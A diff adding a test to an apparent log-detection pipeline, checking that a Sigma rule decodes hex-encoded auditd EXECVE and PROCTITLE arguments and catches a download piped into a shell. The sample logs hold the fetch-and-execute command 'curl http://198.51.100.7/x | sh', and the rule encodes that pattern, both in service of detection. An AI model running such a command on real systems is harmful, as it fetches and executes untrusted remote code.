@@ -440,3 +440,56 @@ def test_correlation_groups_access_lines_by_client(tmp_path: Path) -> None:
 
     assert fired(["203.0.113.9"] * 3) == 1
     assert fired(["203.0.113.9", "203.0.113.10", "203.0.113.11"]) == 0
+
+
+# -- auditd's hex-encoded untrusted strings ------------------------------------------------------
+# The kernel logs an EXECVE argument (and comm, exe, name, cwd, proctitle) quoted, or as the
+# upper-case hex of its bytes when it holds a space, a double quote or a control character
+# (audit_log_untrustedstring); a PROCTITLE's arguments are NUL-separated.
+
+def test_auditd_hex_arguments_are_read_decoded(tmp_path: Path) -> None:
+    from secpipe.detect.sigma.correlation import CorrelationEngine, _kv
+
+    rule = tmp_path / "r.yml"
+    rule.write_text(textwrap.dedent("""\
+        title: shell running a download piped to a shell
+        name: curl_pipe_sh
+        id: 9b1d3f5a-7c9e-4b1d-a3f5-8c0e2a4b6d8f
+        logsource: {product: linux, service: auditd}
+        detection:
+            execve:
+                type: EXECVE
+                a1: '-c'
+                a2|contains|all: ['curl ', '| sh']
+            title:
+                type: PROCTITLE
+                proctitle|contains: 'curl http'
+            condition: execve or title
+        level: high
+        ---
+        title: repeated by one process tree
+        id: 0c2e4a6b-8d0f-4c2e-94a6-9d1f3b5c7e9a
+        correlation: {type: event_count, rules: [curl_pipe_sh], group-by: [a2], timespan: 1h, condition: {gte: 2}}
+        level: high
+    """))
+    head = "<14>Nov 29 10:00:0{} host1 audispd: "
+    cmd = "curl http://198.51.100.7/x | sh"
+    lines = [head.format(0) + 'type=EXECVE msg=audit(1795946400.100:501): argc=3 a0="bash" a1="-c" a2=' + cmd.encode().hex().upper(),
+             head.format(1) + 'type=EXECVE msg=audit(1795946401.100:502): argc=3 a0="bash" a1="-c" a2=' + cmd.encode().hex().upper(),
+             head.format(2) + 'type=EXECVE msg=audit(1795946402.100:503): argc=3 a0="bash" a1="-c" a2="id"',
+             head.format(3) + "type=PROCTITLE msg=audit(1795946403.100:504): proctitle="
+             + b"bash\x00-c\x00curl http://198.51.100.7/x".hex().upper(),
+             # a SYSCALL record's a0-a3 are register values: a2=10 is no hex text
+             head.format(4) + 'type=SYSCALL msg=audit(1795946404.100:505): arch=c000003e syscall=59 success=yes exit=0 '
+             'a0=55d0c1e0 a1=2D63 a2=10 a3=0 items=2 ppid=1 pid=2 comm="bash" exe="/usr/bin/bash" key=(null)']
+    rs = load_rules([rule])
+    assert not rs.unsupported, rs.unsupported
+    rs.rules[0].output = True
+    body = "\n".join(lines).encode()
+    assert _rows(rs, body, "syslog") == [0, 1, 3]
+    eng = CorrelationEngine(rs, None, clock=lambda: 1795946410.0)
+    out = [eng.process(b, rs.matches(b)) for b in formats.get("syslog").decode(body, "t").batches]
+    assert sum(0 if o is None else o.num_rows for o in out) == 1  # the two EXECVE records: one a2
+    # correlations read the decoded value too (group-by, value_count fields)
+    assert _kv(lines[0], "a2") == cmd and _kv(lines[3], "proctitle") == "bash -c curl http://198.51.100.7/x"
+    assert _kv(lines[4], "a2") == "10" and _kv(lines[4], "a1") == "2D63"
